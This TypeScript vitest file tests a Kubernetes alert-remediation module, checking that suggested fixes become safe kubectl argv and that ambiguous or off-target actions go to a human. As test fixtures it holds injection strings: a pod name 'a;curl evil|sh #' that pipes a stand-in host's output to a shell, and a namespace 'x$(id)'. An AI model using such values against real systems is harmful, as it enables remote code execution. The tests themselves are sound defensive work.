import { describe, expect, it } from "vitest";
import { RemediationAction } from "../../../shared/contracts/action.ts";
import type { NormalizedAlert } from "../../../shared/contracts/alert.ts";
import type { SuggestedAction } from "../../../shared/contracts/rca.ts";
import { actionDigest, proposeAction, renderAction } from "../../../shared/domain/action.ts";
import { rulesVerdict } from "../../../shared/domain/rules-provider.ts";
import { normalizedAlert } from "../../support/fixtures/messages.ts";

const alert = (overrides: Partial<NormalizedAlert> = {}): NormalizedAlert =>
  normalizedAlert({ alert_type: "PodRestarting", namespace: "web-staging", target_resource: "web-7d4b8c9f5-xk2m3", ...overrides });
const suggested = (overrides: Partial<SuggestedAction>): SuggestedAction => ({ operation: "DELETE_POD", command: "", description: "d", ...overrides });

describe("proposeAction", () => {
  it("derives a DELETE_POD of the alert's own pod whatever the command text says", async () => {
    const proposal = await proposeAction(suggested({ command: "kubectl delete namespace web-staging" }), alert());
    expect(proposal.typed).toEqual({ version: 1, operation: "DELETE_POD", target: { kind: "pod", name: "web-7d4b8c9f5-xk2m3", namespace: "web-staging" } });
    expect(proposal.argv).toEqual(["kubectl", "delete", "pod", "web-7d4b8c9f5-xk2m3", "-n", "web-staging", "--wait=false"]);
    expect(proposal.argv!.join(" ")).not.toContain("namespace");
  });

  it("refuses to pick one of two --replicas values: the action is left to a human", async () => {
    const proposal = await proposeAction(
      suggested({ operation: "SCALE_DEPLOYMENT", command: "kubectl scale deployment/web --replicas=2 --replicas=500" }),
      alert(),
    );
    expect(proposal.typed).toBeNull();
    expect(proposal.issues.join(" ")).toContain("ambiguous");
  });

  it("takes a structured replica count over the text, and says when they disagree", async () => {
    const proposal = await proposeAction(
      suggested({ operation: "SCALE_DEPLOYMENT", command: "kubectl scale deployment/web --replicas=500", parameters: { replicas: 3 } }),
      alert(),
    );
    expect(proposal.argv).toContain("--replicas=3");
    expect(proposal.issues.join(" ")).toContain("says --replicas=500");
  });

  it("reads one unambiguous replica count from the command text", async () => {
    const proposal = await proposeAction(
      suggested({ operation: "SCALE_DEPLOYMENT", command: "kubectl scale deployment/web --replicas 4 -n web-staging" }),
      alert(),
    );
    expect(proposal.typed).toMatchObject({ target: { kind: "deployment", name: "web" }, params: { replicas: 4 } });
    expect(proposal.issues).toEqual([]);
  });

  it("never lets a hostile pod name into an argv", async () => {
    const proposal = await proposeAction(suggested({}), alert({ target_resource: "a;curl evil|sh #" }));
    expect(proposal.typed).toBeNull();
    expect(proposal.issues.join(" ")).toContain("not a valid Kubernetes name");
  });

  it("marks a target the alert does not name as not automatic", async () => {
    const proposal = await proposeAction(suggested({ target: { kind: "pod", name: "db-0", namespace: "prod" } }), alert());
    expect(proposal.issues.join(" ")).toMatch(/not the alert's own namespace.*not a resource the alert names/);
  });

  it("has no typed form for operations the executor cannot run", async () => {
    expect((await proposeAction(suggested({ operation: "RENEW_CERTIFICATE", command: "cmctl renew x" }), alert())).issues[0]).toContain("no typed form");
  });
});

describe("renderAction", () => {
  it("renders every operation to kubectl argv, and the digest follows the argv", async () => {
    const target = { kind: "deployment" as const, name: "web", namespace: "shop" };
    const actions = [
      { version: 1, operation: "RESTART_DEPLOYMENT", target },
      { version: 1, operation: "SCALE_DEPLOYMENT", target, params: { replicas: 3 } },
      { version: 1, operation: "ROLLBACK_DEPLOYMENT", target, params: { to_revision: 4 } },
      { version: 1, operation: "INCREASE_MEMORY", target, params: { container: "app", limit: "768Mi", request: null } },
      { version: 1, operation: "INCREASE_CPU", target, params: { container: null, limit: "750m", request: "500m" } },
    ].map((a) => RemediationAction.parse(a));
    expect(actions.map((a) => renderAction(a).display)).toEqual([
      "kubectl rollout restart deployment/web -n shop",
      "kubectl scale deployment/web -n shop --replicas=3",
      "kubectl rollout undo deployment/web -n shop --to-revision=4",
      "kubectl set resources deployment/web -n shop -c app --limits=memory=768Mi",
      "kubectl set resources deployment/web -n shop --limits=cpu=750m --requests=cpu=500m",
    ]);
    const digests = await Promise.all(actions.map((a) => actionDigest(renderAction(a).argv)));
    expect(new Set(digests).size).toBe(actions.length);
    expect(digests.every((d) => /^[0-9a-f]{64}$/.test(d))).toBe(true);
  });
});

describe("the rules provider", () => {
  it("puts a placeholder, not a hostile label value, into the commands people copy", () => {
    const verdict = rulesVerdict(alert({ alert_type: "PodRestarting", target_resource: "a;curl evil|sh #", namespace: "x$(id)" }));
    expect(verdict.suggested_action.command).not.toContain("curl");
    expect(verdict.suggested_action.command).not.toContain("$(");
    expect(verdict.suggested_action.command).toContain("<resource>");
  });
});
